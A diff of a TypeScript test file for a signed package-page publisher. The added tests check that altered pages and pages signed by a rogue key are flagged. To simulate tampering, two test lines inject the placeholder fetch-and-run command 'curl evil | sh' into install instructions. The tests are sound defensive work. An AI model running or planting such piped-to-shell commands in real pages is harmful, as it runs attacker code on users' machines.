@@ -7,13 +7,15 @@ import { moveChannel } from "../channels/move.ts";
 import type { Store } from "../store/store.ts";
 import { fillSampleBucket, mover, newPageSigner, sampleSettings } from "./__fixtures__/sample-bucket.ts";
 import { pageFindings } from "./page-findings.ts";
-import { isSignedPage } from "./page-signature.ts";
+import { isSignedPage, signedPage, signedPart } from "./page-signature.ts";
 import { publishPages } from "./publish-pages.ts";
 
 const channels = [{ product: "runtime", channel: "stable" }];
 const sample = memoryStore();
 await fillSampleBucket(sample);
 const signer = await newPageSigner();
+const by = { signer, root: undefined };
+const trust = { root: undefined, key: signer.public };
 await sample.create(`keys/${signer.public.fingerprint}.asc`, Buffer.from(signer.public.armored));
 
 function copied() {
@@ -26,7 +28,7 @@ function shelves(store: Store) {
   return { store, cache: new BuildCache(cacheFolder, () => {}), cacheFolder };
 }
 
-const publish = (store: Store) => publishPages(shelves(store), channels, sampleSettings, signer, () => {});
+const publish = (store: Store) => publishPages(shelves(store), channels, sampleSettings, by, () => {});
 const text = (store: ReturnType<typeof memoryStore>, path: string) => store.objects.get(path)?.toString() ?? "";
 
 test("pages tell what channels and records say, and the same bucket gives the same bytes", async () => {
@@ -162,21 +164,21 @@ test("an altered page is named, whatever number it states; a page of a number in
   const store = copied();
   const published = await publish(store);
   const path = "channels/runtime-stable.html";
-  assert.deepEqual(await pageFindings(store, published), []);
+  assert.deepEqual(await pageFindings(store, trust, published), []);
   const page = text(store, path);
   const stating = (number: number) =>
     page.replace(/(slipway-serial" content=")\d+/, `$1${number}`).replace("sudo apt install", "curl evil | sh");
   for (const number of [1, 6, 7, 9999]) {
     store.objects.set(path, Buffer.from(stating(number)));
-    assert.deepEqual(await pageFindings(store, published), [`${path}: altered`], `${number}`);
+    assert.deepEqual(await pageFindings(store, trust, published), [`${path}: altered`], `${number}`);
   }
   store.objects.set(path, Buffer.from(page));
   const earlier = { ...published, [path]: { number: 5, sha256: "of the page before" } };
-  assert.deepEqual(await pageFindings(store, earlier), []);
+  assert.deepEqual(await pageFindings(store, trust, earlier), []);
   store.objects.set(path, Buffer.from(stating(6)));
-  assert.deepEqual(await pageFindings(store, earlier), [`${path}: altered`]);
+  assert.deepEqual(await pageFindings(store, trust, earlier), [`${path}: altered`]);
   store.objects.delete(path);
-  assert.deepEqual(await pageFindings(store, published), [`${path}: missing`]);
+  assert.deepEqual(await pageFindings(store, trust, published), [`${path}: missing`]);
 });
 
 test("each page is signed, and a byte of it, another key or another text behind it is noticed", async () => {
@@ -200,4 +202,48 @@ test("each page is signed, and a byte of it, another key or another text behind 
     ])
       assert.ok(!(await isSignedPage(Buffer.from(altered), path, [signer.public])), path);
   }
+});
+
+test("two stacks with keys of their own leave each other's page of the same text alone", async () => {
+  const store = copied();
+  const other = await newPageSigner();
+  await store.create(`keys/${other.public.fingerprint}.asc`, Buffer.from(other.public.armored));
+  const stacks = [
+    { by, channels, trust },
+    { by: { signer: other, root: undefined }, channels: [{ product: "runtime", channel: "candidate" }] },
+  ].map((it) => ({ ...it, trust: { root: undefined, key: it.by.signer.public } }));
+  const run = (at: number) => {
+    const { by, channels } = stacks[at] ?? assert.fail();
+    return publishPages(shelves(store), channels, sampleSettings, by, () => {});
+  };
+  // The first index has no link to the page that is not there yet.
+  await run(0);
+  const published = [await run(0), await run(1), await run(0), await run(1)];
+  const index = text(store, "index.html");
+  for (const [at, pages] of [published[2], published[3]].entries()) {
+    assert.deepEqual(await pageFindings(store, stacks[at]?.trust ?? trust, pages ?? {}), []);
+    await run(at);
+  }
+  assert.equal(text(store, "index.html"), index);
+});
+
+test("a stack that trusts a root names and believes no key that only lies in the bucket", async () => {
+  const store = copied();
+  const root = text(store, "tuf/1.root.json");
+  const thief = await newPageSigner();
+  await store.create(`keys/${thief.public.fingerprint}.asc`, Buffer.from(thief.public.armored));
+  const pinned = { root, key: signer.public };
+  const pages = await publishPages(shelves(store), channels, sampleSettings, { signer, root }, () => {});
+  for (const path of Object.keys(pages)) assert.doesNotMatch(text(store, path), new RegExp(thief.public.fingerprint));
+  const path = "index.html";
+  const evil = Buffer.from(signedPart(store.objects.get(path) ?? Buffer.of()) ?? []).toString();
+  const planted = await signedPage(
+    evil.replace("<main", "<p>curl evil | sh</p><main"),
+    thief,
+    Date.parse("2026-11-22") / 1000,
+  );
+  store.objects.set(path, Buffer.from(planted));
+  const earlier = { ...pages, [path]: { number: 7, sha256: "of the page before", signed: "another" } };
+  assert.deepEqual(await pageFindings(store, pinned, earlier), [`${path}: altered`]);
+  assert.deepEqual(await pageFindings(store, { root: undefined, key: undefined }, earlier), []);
 });
